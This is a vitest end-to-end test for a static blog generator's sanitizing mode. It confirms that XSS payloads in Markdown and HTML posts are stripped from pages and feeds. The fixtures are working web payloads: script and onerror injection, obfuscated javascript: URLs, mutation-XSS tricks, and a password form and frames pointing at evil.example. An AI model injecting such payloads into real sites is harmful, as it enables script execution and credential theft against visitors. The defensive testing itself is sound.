/**
 * The sanitizing mode end to end: a copy of content/ with `kiosque.sanitize: true`, one post of
 * attacks in Markdown and one in HTML, built and served in workerd. Nothing runnable reaches a
 * page or a feed; the iframe from the listed host stays.
 */
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { formatDiagnostic } from '../src/build/diagnostics'
import type { PostSummary } from '../src/model/types'
import { inertProblems } from './support/inert-html'
import { type ServedSite, serveContent } from './support/site'

const ATTACKS_MD = `---
title: Attaques
tags: [securite]
---
Un paragraphe, [un lien](/blog/) et ![une image](/img/blog/ag-2019.svg).

<script>alert(1)</script>

<img src=x onerror="alert(1)">

<a href="javascript:alert(1)">javascript:</a> <a href="jav&#x09;ascript:alert(1)">tab</a>

<iframe src="https://evil.example/embed"></iframe>

<iframe src="https://www.youtube-nocookie.com/embed/ok" onload="alert(1)"></iframe>

<svg><script>alert(1)</script></svg>

<p style="background:url(javascript:alert(1))" onclick="alert(1)">style</p>

<form action="https://evil.example/"><input name="password" type="password"></form>

<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>

<object data="https://evil.example/x.swf"></object>
`

const ATTACKS_HTML = `---
title: Attaques en HTML
---
<p>Corps HTML <b onmouseover="alert(1)">gras</b>.</p>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
`

const FRAME_HOSTS = ['www.youtube-nocookie.com']

/** A page's body with the one JSON-LD data block taken out: what the post's HTML lands in. */
/**
 * The page's body as the post's author could have shaped it: without Kiosque's own JSON-LD, nor
 * the site header, whose search form (a form, an input, a button) is the theme's own.
 */
function bodyOf(html: string): string {
  return (html.split('</head>')[1] ?? '')
    .replace(/<script type="application\/ld\+json">[\s\S]*?<\/script>/, '')
    .replace(/<header class="site">[\s\S]*?<\/header>/, '')
}

let scratch: string
let site: ServedSite
let attacks: PostSummary
let attacksHtml: PostSummary
beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'kiosque-sanitize-'))
  const dir = join(scratch, 'content')
  await cp('content', dir, { recursive: true })
  const config = await readFile(join(dir, '_config.yml'), 'utf8')
  await writeFile(
    join(dir, '_config.yml'),
    `${config}\nkiosque:\n  sanitize: true\n  csp:\n    frame_src: [https://www.youtube-nocookie.com]\n`,
  )
  await writeFile(join(dir, '_posts', '2024-01-02-attaques.md'), ATTACKS_MD)
  await writeFile(join(dir, '_posts', '2024-01-03-attaques-html.html'), ATTACKS_HTML)
  site = await serveContent(dir, { name: 'sanitize-site' })
  const posts = site.build.manifest.posts
  attacks = posts.find((p) => p.title === 'Attaques') as PostSummary
  attacksHtml = posts.find((p) => p.title === 'Attaques en HTML') as PostSummary
})
afterAll(async () => {
  await site?.close()
  await rm(scratch, { recursive: true, force: true })
})

describe('kiosque.sanitize: true', () => {
  it('records the mode and a policy from _config.yml only, warning at each embed it drops', () => {
    const { site: settings } = site.build.manifest
    expect(settings.sanitize).toBe(true)
    expect(settings.csp).toEqual({
      scriptSrc: [],
      frameSrc: ['https://www.youtube-nocookie.com'],
      imgSrc: [],
    })
    const warnings = site.build.warnings.map(formatDiagnostic)
    expect(warnings).toContainEqual(
      expect.stringMatching(
        /_posts\/2024-01-02-attaques\.md:13:14: warning: kiosque\.sanitize removes this iframe from https:\/\/evil\.example/,
      ),
    )
    expect(warnings).toContainEqual(
      expect.stringMatching(
        /_posts\/2023-02-18-farines-locales\.md:\d+:\d+: warning: kiosque\.sanitize removes this embed from speakerdeck\.com:/,
      ),
    )
  })

  it.each([
    ['the Markdown post of attacks', () => attacks],
    ['the HTML post of attacks', () => attacksHtml],
  ])('serves %s with nothing runnable', async (_name, post) => {
    const res = await site.fetch(encodeURI(post().url))
    expect(res.status).toBe(200)
    const body = bodyOf(await res.text())
    expect(inertProblems(body, FRAME_HOSTS)).toEqual([])
    expect(body).not.toContain('evil.example')
  })

  it('keeps text, links, images and the listed iframe, without its handler', async () => {
    const body = bodyOf(await (await site.fetch(encodeURI(attacks.url))).text())
    expect(body).toContain('<a href="/blog/">un lien</a>')
    expect(body).toMatch(/<img src="\/img\/blog\/ag-2019\.svg" alt="une image"/)
    expect(body).toContain('<iframe src="https://www.youtube-nocookie.com/embed/ok"></iframe>')
    expect(body).toContain('style</p>')
    const html = bodyOf(await (await site.fetch(encodeURI(attacksHtml.url))).text())
    expect(html).toContain('<p>Corps HTML <b>gras</b>.</p>')
  })

  it('keeps the sample blog’s YouTube embed, drops its Speaker Deck script', async () => {
    const posts = site.build.manifest.posts
    const salon = posts.find((p) => p.url.includes('Salon-du-Pain')) as PostSummary
    const flour = posts.find((p) => p.url.includes('farines-locales')) as PostSummary
    expect(bodyOf(await (await site.fetch(encodeURI(salon.url))).text())).toContain(
      'src="https://www.youtube-nocookie.com/embed/Xq7bVn2Lk0w"',
    )
    expect(bodyOf(await (await site.fetch(encodeURI(flour.url))).text())).not.toContain(
      'speakerdeck',
    )
  })

  it('sends a policy with no script host and the listed frame host only', async () => {
    const res = await site.fetch(encodeURI(attacks.url))
    const policy = res.headers.get('content-security-policy') ?? ''
    expect(policy).toContain("script-src 'self';")
    expect(policy).toContain("frame-src 'self' https://www.youtube-nocookie.com;")
  })

  it('sanitizes the feeds too', async () => {
    const feed = (await (await site.fetch('/feed.json')).json()) as {
      items: { url: string; content_html: string }[]
    }
    const items = feed.items.filter((i) => i.url.includes('attaques'))
    expect(items).toHaveLength(2)
    for (const item of items) {
      expect(inertProblems(item.content_html, FRAME_HOSTS)).toEqual([])
      expect(item.content_html).not.toContain('evil.example')
    }
    const atom = await (await site.fetch('/feed.atom')).text()
    expect(atom).not.toMatch(/onerror|javascript:alert|&lt;script/i)
  })
})
